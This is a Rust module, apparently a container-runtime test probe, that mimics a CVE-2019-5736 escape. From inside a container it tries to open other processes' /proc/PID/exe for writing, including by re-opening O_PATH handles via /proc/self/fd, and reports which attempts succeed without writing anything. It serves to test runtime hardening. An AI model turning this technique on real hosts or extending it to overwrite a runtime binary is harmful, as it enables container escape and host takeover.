//! The `exe-attack` subcommand: a CVE-2019-5736 style attempt to get a
//! writable handle on a host binary through /proc/PID/exe.
//!
//! While the runtime is joining the container (e.g. `exec`), its process is
//! briefly visible in the container's pid namespace. A malicious container
//! tries to open its /proc/PID/exe for writing, either directly or by
//! grabbing an O_PATH handle and re-opening it through /proc/self/fd/N once
//! the binary stops executing (to dodge ETXTBSY). Any success here means the
//! runtime binary could be overwritten from inside the container.

use serde_json::json;
use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsStr;
use std::time::{Duration, Instant};

use crate::sys::{close, open_raw, readlink};

/// Cap on O_PATH handles kept for re-open attempts, so a busy host cannot
/// make the probe run out of file descriptors.
const MAX_HELD: usize = 256;

/// What an opened fd actually points to, as "pid:target".
fn label(pid: &str, fd: libc::c_int) -> String {
    let target = readlink(format!("/proc/self/fd/{fd}")).unwrap_or_default();
    format!("{pid}:{target}")
}

fn other_pids(self_pid: &str) -> Vec<String> {
    let Ok(rd) = std::fs::read_dir("/proc") else {
        return Vec::new();
    };
    rd.filter_map(|e| e.ok())
        .filter_map(|e| e.file_name().into_string().ok())
        .filter(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()) && n != self_pid)
        .collect()
}

/// Runs for `secs`, or until `stop_file` exists (tests create it when the
/// events they want attacked are over, which no deadline can know).
pub fn run(secs: f64, stop_file: Option<&str>) -> serde_json::Value {
    let deadline = Instant::now() + Duration::from_secs_f64(secs.max(0.0));
    // SAFETY: getpid cannot fail.
    let self_pid = unsafe { libc::getpid() }.to_string();
    let mut attempts: u64 = 0;
    let mut opened_write = BTreeSet::new();
    let mut opened_path = BTreeSet::new();
    // O_PATH handles keyed by label, retried for write on every round.
    let mut held: BTreeMap<String, libc::c_int> = BTreeMap::new();

    // Check the deadline after each round so SECS=0 still does one pass.
    loop {
        for pid in other_pids(&self_pid) {
            let exe = format!("/proc/{pid}/exe");
            for flags in [libc::O_WRONLY, libc::O_RDWR] {
                attempts += 1;
                if let Ok(fd) = open_raw(OsStr::new(&exe), flags) {
                    opened_write.insert(label(&pid, fd));
                    close(fd);
                }
            }
            attempts += 1;
            if let Ok(fd) = open_raw(OsStr::new(&exe), libc::O_PATH) {
                let l = label(&pid, fd);
                opened_path.insert(l.clone());
                if held.len() < MAX_HELD && !held.contains_key(&l) {
                    held.insert(l, fd);
                } else {
                    close(fd);
                }
            }
        }
        // Re-open held handles: this succeeds once the binary is no longer
        // being executed, unless the runtime made it unwritable (e.g. by
        // running from a sealed memfd copy).
        for (l, fd) in &held {
            let via = format!("/proc/self/fd/{fd}");
            for flags in [libc::O_WRONLY, libc::O_RDWR] {
                attempts += 1;
                if let Ok(wfd) = open_raw(OsStr::new(&via), flags) {
                    opened_write.insert(l.clone());
                    close(wfd);
                }
            }
        }
        if Instant::now() >= deadline || stop_file.is_some_and(|f| std::path::Path::new(f).exists()) {
            break;
        }
    }
    for fd in held.into_values() {
        close(fd);
    }
    json!({
        "attempts": attempts,
        "opened_write": opened_write.into_iter().collect::<Vec<_>>(),
        "opened_path": opened_path.into_iter().collect::<Vec<_>>(),
    })
}
